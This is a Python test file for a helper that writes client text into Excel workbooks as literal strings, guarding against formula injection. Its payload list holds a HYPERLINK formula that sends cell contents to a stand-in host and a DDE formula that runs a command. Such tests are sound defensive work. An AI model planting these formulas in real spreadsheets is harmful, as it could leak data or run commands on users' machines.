"""Safe cell writing: client text written into a workbook is read back as the same literal text.

Formula-injection payloads follow the OWASP CSV Injection page (https://owasp.org/www-community/attacks/CSV_Injection):
cells beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from workbench.workpaper.cells import (
    DATE_FORMAT,
    MAX_CELL_CHARS,
    clean_text,
    format_timestamp,
    is_formula_like,
    write_text,
    write_value,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for details")',
    "=1+1",
    "+1",
    "-x",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _roundtrip(tmp_path, values, writer=write_text):
    wb = Workbook()
    ws = wb.active
    for row, value in enumerate(values, start=1):
        writer(ws.cell(row=row, column=1), value)
    path = tmp_path / "cells.xlsx"
    wb.save(path)
    return path, load_workbook(path).active


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payload_reads_back_as_the_same_text(tmp_path, payload):
    _, ws = _roundtrip(tmp_path, [payload])
    cell = ws["A1"]
    # A carriage return is stored as a line feed (XML turns CR into LF; documented in cells.py).
    assert cell.value == payload.replace("\r", "\n")
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


def test_no_formula_element_in_the_sheet_xml(tmp_path):
    path, _ = _roundtrip(tmp_path, PAYLOADS)
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') + xml.count('t="s"') == len(PAYLOADS)


def test_plain_openpyxl_would_have_written_a_formula(tmp_path):
    # The hazard the helper exists for: without it, openpyxl stores "=..." as a formula.
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    assert wb.active["A1"].data_type == "f"


def test_ordinary_text_has_no_quote_prefix(tmp_path):
    _, ws = _roundtrip(tmp_path, ["Deploy v2.3 to prod", "a=b", "x-1"])
    assert [ws.cell(row=r, column=1).value for r in (1, 2, 3)] == ["Deploy v2.3 to prod", "a=b", "x-1"]
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in (1, 2, 3))
    assert not any(ws.cell(row=r, column=1).quotePrefix for r in (1, 2, 3))


@pytest.mark.parametrize(("text", "expected"), [
    ("=a", True), ("+a", True), ("-a", True), ("@a", True), ("\ta", True), ("\ra", True),
    ("a", False), (" =a", False), ("", False), ("\na", False),
])
def test_is_formula_like(text, expected):
    assert is_formula_like(text) is expected


def test_illegal_xml_characters_are_escaped_visibly(tmp_path):
    raw = "bell\x07 and null\x00 and tab\tkept\nnewline kept"
    assert clean_text(raw) == "bell\\x07 and null\\x00 and tab\tkept\nnewline kept"
    _, ws = _roundtrip(tmp_path, [raw])
    assert ws["A1"].value == "bell\\x07 and null\\x00 and tab\tkept\nnewline kept"


def test_carriage_returns_become_line_feeds():
    assert clean_text("line 1\r\nline 2\rline 3\n") == "line 1\nline 2\nline 3\n"


def test_text_longer_than_excel_allows_is_cut_with_a_marker():
    text = "=" + "a" * 40_000
    cleaned = clean_text(text)
    assert len(cleaned) == MAX_CELL_CHARS
    dropped = 40_001 - cleaned.index(" … [")
    assert cleaned.endswith(f" … [{dropped} characters not shown: Excel holds at most 32,767 per cell]")
    assert cleaned.startswith("=aaa")


def test_missing_values_leave_the_cell_empty(tmp_path):
    _, ws = _roundtrip(tmp_path, [None, float("nan"), pd.NA, pd.NaT, np.nan, "after"], writer=write_value)
    assert [ws.cell(row=r, column=1).value for r in range(1, 7)] == [None] * 5 + ["after"]


def test_timestamps_are_iso_text_with_their_offset(tmp_path):
    ts = pd.Timestamp("2025-07-03 14:05:00", tz="America/New_York")
    utc = dt.datetime(2026, 1, 15, 9, 30, 12, 250000, tzinfo=dt.timezone.utc)
    _, ws = _roundtrip(tmp_path, [ts, utc], writer=write_value)
    assert ws["A1"].value == "2025-07-03T14:05:00-04:00"
    assert ws["A2"].value == "2026-01-15T09:30:12.250000+00:00"
    assert ws["A1"].data_type == "s"
    assert format_timestamp(pd.Timestamp("2026-01-15 09:30", tz="America/New_York")) == "2026-01-15T09:30:00-05:00"


def test_dates_are_real_excel_dates(tmp_path):
    _, ws = _roundtrip(tmp_path, [dt.date(2025, 7, 1)], writer=write_value)
    assert ws["A1"].value == dt.datetime(2025, 7, 1)  # openpyxl reads Excel dates back as datetimes
    assert ws["A1"].is_date
    assert ws["A1"].number_format == DATE_FORMAT


def test_numbers_stay_numbers(tmp_path):
    values = [25, np.int64(3), 0.1, np.float64(0.0886), Decimal("0.05"), True]
    _, ws = _roundtrip(tmp_path, values, writer=write_value)
    got = [ws.cell(row=r, column=1).value for r in range(1, 7)]
    assert got == [25, 3, 0.1, 0.0886, 0.05, True]
    assert [ws.cell(row=r, column=1).data_type for r in range(1, 7)] == ["n"] * 5 + ["b"]


def test_write_value_routes_strings_through_write_text(tmp_path):
    _, ws = _roundtrip(tmp_path, ["=SUM(A1:A9)", "-5"], writer=write_value)
    assert ws["A1"].value == "=SUM(A1:A9)" and ws["A1"].data_type == "s"
    assert ws["A2"].value == "-5" and ws["A2"].data_type == "s"  # text "-5" stays text, not a number


def test_other_objects_are_written_as_their_text(tmp_path):
    _, ws = _roundtrip(tmp_path, [("CC8.1", "CC6.1"), float("inf")], writer=write_value)
    assert ws["A1"].value == "('CC8.1', 'CC6.1')"
    assert ws["A2"].value == "inf"
